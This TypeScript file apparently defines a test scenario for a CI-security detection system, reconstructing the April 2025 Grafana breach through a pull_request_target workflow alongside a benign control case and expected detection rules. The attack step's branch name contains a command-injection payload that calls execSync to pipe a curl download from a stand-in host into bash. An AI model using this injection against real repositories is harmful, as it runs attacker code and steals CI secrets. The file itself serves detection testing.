import { headOf, inventory } from './baseline.ts';
import { forked, openedWithRun, reviewedChange, runOf, type Workflow } from './github-acts.ts';
import { type ChangeOf, createStage, pullRequest, type Stage } from './github-bodies.ts';
import type { Cast, Scenario, ScenarioStep } from './scenario.ts';

const repository = 'dashboards';
const thief = 'quiet-heron-90';
const author = 'nora-author';
const reviewer = 'dave-reviewer';
const patchCheck: Workflow = {
  ...{ repository, name: 'Dispatch check for patch conflicts', path: '.github/workflows/pr-patch-check-event.yml' },
  ...{ trigger: 'pull_request_target', job: 'dispatch-job' },
};

function work(stage: Stage, from: { fork: boolean }): ChangeOf {
  return {
    ...{ repository, number: 104_160, title: 'Panels: fix legend overflow', author, association: 'MEMBER' },
    ...{ head: stage.sha('legend'), branch: 'fix-legend', base: headOf(stage, repository), ...from },
  };
}

function attack(cast: Cast): ScenarioStep[] {
  const stage = createStage(cast);
  const bait: ChangeOf = {
    ...{ repository, number: 104_175, title: 'Update docs', author: thief, association: 'NONE', fork: true },
    head: stage.sha('bait'),
    branch: `docs"}');require('child_process').execSync('{curl,-sSf,gist.example.com/x}|bash');//`,
    base: headOf(stage, repository),
    openedAtMs: 1200,
  };
  return [
    ...openedWithRun(
      stage,
      {
        ...{ name: 'work', says: `${author} opened a pull request`, atMs: 100 },
        runSays: 'a workflow that was enabled days ago ran for it',
      },
      work(stage, { fork: false }),
      patchCheck,
    ),
    forked(stage, { name: 'fork', says: 'somebody forked the repository', atMs: 800 }, { repository, by: thief }),
    ...openedWithRun(
      stage,
      {
        ...{ name: 'bait', says: 'a pull request came whose branch is called like a script', atMs: 1200 },
        runSays: 'the workflow executed the name, and wrote its surroundings into a file, encrypted',
      },
      bait,
      patchCheck,
    ),
    pullRequest(
      stage,
      { name: 'bait-gone', says: 'the fork was deleted, and its pull request closed', atMs: 2400 },
      'closed',
      {
        ...bait,
        forkDeleted: true,
      },
    ),
  ];
}

function benign(cast: Cast): ScenarioStep[] {
  const stage = createStage(cast);
  const change = work(stage, { fork: true });
  const files = ['public/app/legend.tsx'];
  return [
    forked(
      stage,
      { name: 'fork', says: `${author} works in a fork of their own`, atMs: 100 },
      { repository, by: author },
    ),
    ...reviewedChange(
      stage,
      { name: 'change', atMs: 500 },
      { ...change, files, reviewer, merge: stage.sha('merge of legend') },
    ),
    ...runOf(stage, { name: 'run', says: 'the workflow ran for it', atMs: 600 }, change, patchCheck),
  ];
}

export const grafanaFork: Scenario = {
  id: 'grafana-fork',
  title: 'Grafana, April 2025',
  breach: { number: 15, name: 'Grafana, the fork', date: '2025-04' },
  narrative:
    'A workflow that had been enabled days before ran by pull_request_target, and put the name of a pull request’s branch into a script. Somebody forked the repository, opened a pull request from a branch whose name ended that script and began their own, took the keys of an app, and deleted the fork. ' +
    'With these they did the same in four private repositories. A canary among what they took was tried, and told Grafana within hours; it was a cloud’s key, whose own log alone tells of its use, and is left out.',
  provenance: 'reconstructed',
  sources: [
    {
      title: 'Grafana security update: no customer impact from GitHub workflow vulnerability',
      url: 'https://grafana.com/blog/2025/04/27/grafana-security-update-no-customer-impact-from-github-workflow-vulnerability/',
    },
    {
      title: 'Grafana’s CI/CD nightmare, a talk at GrafanaCON, retold',
      url: 'https://development.tldrecap.tech/posts/2026/grafanacon/grafana-cicd-security-incident-lessons/',
    },
  ],
  baseline: (cast) =>
    inventory(createStage(cast), {
      repositories: [repository],
      members: [
        { login: author, role: 'member' },
        { login: reviewer, role: 'admin' },
      ],
      withSecrets: { [repository]: patchCheck.path },
      settings: { 'privileged-fork-trigger': { holdMs: 500 } },
    }),
  attack,
  benign,
  expects: [
    { rule: 'untrusted-metadata-injection', decidingStep: 'bait', responses: ['block-user'] },
    { rule: 'privileged-fork-trigger', decidingStep: 'bait-run', afterMs: 500, responses: ['stop-run'] },
  ],
};
